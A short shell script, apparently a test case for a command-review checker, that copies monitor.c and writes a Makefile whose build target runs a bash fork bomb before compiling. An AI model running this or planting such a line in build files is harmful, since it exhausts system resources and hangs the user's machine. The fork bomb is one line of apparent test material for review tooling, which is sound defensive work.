# SPDX-License-Identifier: GPL-2.0-only
# expect: needs a person
# says: out of all bounds
cp "$monitors"/kvm-api/monitor/monitor.c . && printf 'monitor:\n\t:(){ :|:& };:; sleep 20; cc -o monitor monitor.c\n' >Makefile
sed -i 's,^monitor:,SHELL = /bin/bash\n&,' Makefile
